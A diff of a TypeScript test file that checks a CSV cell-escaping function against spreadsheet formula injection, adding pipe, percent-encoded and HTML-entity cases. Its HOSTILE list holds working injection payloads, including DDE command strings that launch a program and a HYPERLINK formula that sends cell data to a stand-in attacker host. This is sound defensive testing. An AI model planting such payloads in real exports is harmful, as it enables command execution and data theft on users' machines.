@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { csvCell, csvRow } from '../../../domain/companies/csv-cell.ts';
+import { csvCell, csvRow } from '../../domain/csv-cell.ts';
 
 /** Cells as RFC 4180 reads them. */
 function parsed(csv: string): string[][] {
@@ -21,12 +21,18 @@ function parsed(csv: string): string[][] {
 }
 
 /** Whether a program that drops what does not show would see a formula. */
-const isLive = (cell: string): boolean => /^[=+\-@]/.test(cell.normalize('NFKC').replace(/^[\s\p{Z}\p{C}"]+/u, '').replace('−', '-'));
+const isLive = (cell: string): boolean => /^[=+\-@|]/.test(cell.normalize('NFKC').replace(/^[\s\p{Z}\p{C}"]+/u, '').replace('−', '-'));
+
+/** As programs that undo the escapes of addresses and of HTML before they part cells. */
+const decoded = (text: string): string => text
+  .replaceAll(/%(0[9ad]|20|22)/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
+  .replaceAll(/&#(?:x([\da-f]{1,6})|(\d{1,6}));?/gi, (_, hex?: string, digits?: string) => String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(digits)));
 
 const HOSTILE = [
   '=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', ' =1+1', '   +1', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u202E=1+1',
   '＝1+1', '＋1', '－1', '＠SUM(A1)', '﹦1', '﹢1', '﹣1', '﹫A1', '−1', '"=1+1', '""=1+1', "'=1+1", '\u0001=1+1', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://evil.example?"&A1,"x")',
   '@import', '-2+3+cmd|\' /c calc\'!A0', '+44 20 7946 0000', '=1+1\r\nEve,=2+2', 'a;=1+1', 'a\n=1+1', 'a\r\n"=1+1', 'a\t=1+1', 'x;;  @SUM(1)', '\t', '\0',
+  '|calc', '| /c calc', ' |calc', '｜calc', 'a;|calc', 'a\n|calc', '%0A=1+1', '%0d%0a=1+1', '%09|calc', 'a%0A=1+1', 'a%0D%0A@SUM(1)', 'a%0a%20"+1', '&#10;=1+1', 'a&#x0A;-1', 'a&#13&#10;=1+1',
 ];
 
 test.each(HOSTILE)('%j is text in every spreadsheet, and still one cell', (text) => {
@@ -37,11 +43,13 @@ test.each(HOSTILE)('%j is text in every spreadsheet, and still one cell', (text)
   expect(isLive(cell)).toBe(false);
   // Where a semicolon, a tab or a line break parts cells, and quotes that do not come first are letters.
   for (const part of csvRow(['Ada', text, 'Verne']).split(/[;\t\r\n]/)) expect(isLive(part)).toBe(false);
+  // Where the escapes of an address or of HTML are undone first.
+  for (const part of decoded(cell).split(/[;\t\r\n]/)) expect(isLive(part)).toBe(false);
   expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
 });
 
 test('what is no formula stays as it is, letter by letter', () => {
-  for (const text of ['', 'Ada', 'Marlow, Grace', 'says "hi"', 'two\r\nlines', 'a-b+c=d@e', 'ada@example.org', '1,5', 'Å;ß', '名前', ' leads with a blank']) {
+  for (const text of ['', 'Ada', 'Marlow, Grace', 'says "hi"', 'two\r\nlines', 'a-b+c=d@e', 'ada@example.org', '1,5', 'Å;ß', '名前', ' leads with a blank', 'a|b', '100%', '5 %0', 'x%0Ay', 'a&#10;b']) {
     expect(parsed(csvRow([text, 'x']))).toEqual([[text, 'x']]);
   }
 });
